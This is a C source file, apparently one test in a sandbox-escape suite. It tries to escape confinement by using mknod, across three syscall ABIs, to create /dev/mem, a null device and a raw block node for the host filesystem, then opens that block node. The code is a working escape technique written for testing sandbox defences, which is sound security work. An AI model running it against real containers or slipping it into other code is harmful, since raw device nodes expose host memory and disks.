/* moat-escape-mknod DIR
 *
 * A device node is a door around every mount: /dev/mem, or the block device
 * that holds the host's root filesystem, read raw. The attack makes char
 * devices 1:1 (mem) and 1:3 (null) and a block device with the number of
 * the filesystem that holds DIR, through mknod (x86_64, x32 and i386), then
 * tries to open the block device. The suite judges by whether a device
 * node appeared on the host under DIR. Exits ESC_ESCAPED if any node was
 * made. */
#include "escape.h"

#include <sys/stat.h>
#include <sys/sysmacros.h>

#define NR32_MKNOD 14

static const char *dir;

static int attack(enum esc_abi abi, void *unused) {
  (void)unused;
  struct stat st;
  if (stat(dir, &st) != 0)
    return ESC_USAGE;
  struct {
    const char *name;
    mode_t mode;
    dev_t dev;
  } nodes[] = {
      {"mem", S_IFCHR | 0666, makedev(1, 1)},
      {"null", S_IFCHR | 0666, makedev(1, 3)},
      {"disk", S_IFBLK | 0666, st.st_dev},
  };
  int made = 0;
  for (size_t i = 0; i < sizeof nodes / sizeof nodes[0]; ++i) {
    char path[4096], what[64];
    snprintf(path, sizeof path, "%s/%s-%s", dir, nodes[i].name, esc_abi_name[abi]);
    char *low = esc_low_string(path);
    long rc = low ? esc_syscall(abi, SYS_mknod, NR32_MKNOD, (long)low, nodes[i].mode, (long)nodes[i].dev, 0, 0) : -1;
    snprintf(what, sizeof what, "mknod %s (%s)", nodes[i].name, esc_abi_name[abi]);
    esc_note(what, rc);
    made |= rc == 0;
    if (rc == 0 && S_ISBLK(nodes[i].mode)) {
      int fd = open(path, O_RDONLY);
      esc_note("open the block device", fd);
      if (fd >= 0)
        close(fd);
    }
  }
  return made ? ESC_ESCAPED : ESC_OK;
}

int main(int argc, char **argv) {
  if (argc != 2)
    return ESC_USAGE;
  esc_deadline(10);
  dir = argv[1];
  return esc_each_abi(attack, NULL);
}
